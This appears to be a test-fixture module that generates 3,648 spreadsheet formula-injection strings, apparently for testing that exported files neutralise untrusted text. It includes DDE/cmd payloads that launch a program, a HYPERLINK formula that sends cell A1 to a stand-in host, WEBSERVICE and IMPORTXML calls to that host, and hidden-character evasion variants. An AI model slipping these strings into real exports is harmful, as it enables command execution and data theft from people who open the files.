const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  "'=",
  '"=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u00a0=',
  '{=',
  ';=',
  ',=',
  '%0A=',
];
const bodies = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("https://zlo.example?x="&A1,"Kliknij")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://zlo.example")',
  'IMPORTXML("https://zlo.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  'INDIRECT("A"&1)',
  '48 501 502 503',
  '5901234123457',
  "2+5+cmd|' /C calc'!A0",
  '<f>1+1</f>',
  '</t></is></c><c><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '_x003D_1+1',
];
/** Before a beginning: what some readers take away, or what is only a part of what stands there. */
const veils = ['', ' ', '\u00a0', '\u200b', '\ufeff', '\t', '\u3000', '\u2007', '0', '\u202e', '\u0001', '\u0301'];

/** Texts that a spreadsheet might take for formulas, in every place where a stranger's text comes into a file. */
export const payloads = beginnings.flatMap((beginning) => bodies.map((body) => beginning + body));

/** 3,648 of them: each as it is, and behind what a reader may take away. */
export const veiledPayloads = veils.flatMap((veil) => payloads.map((payload) => veil + payload));
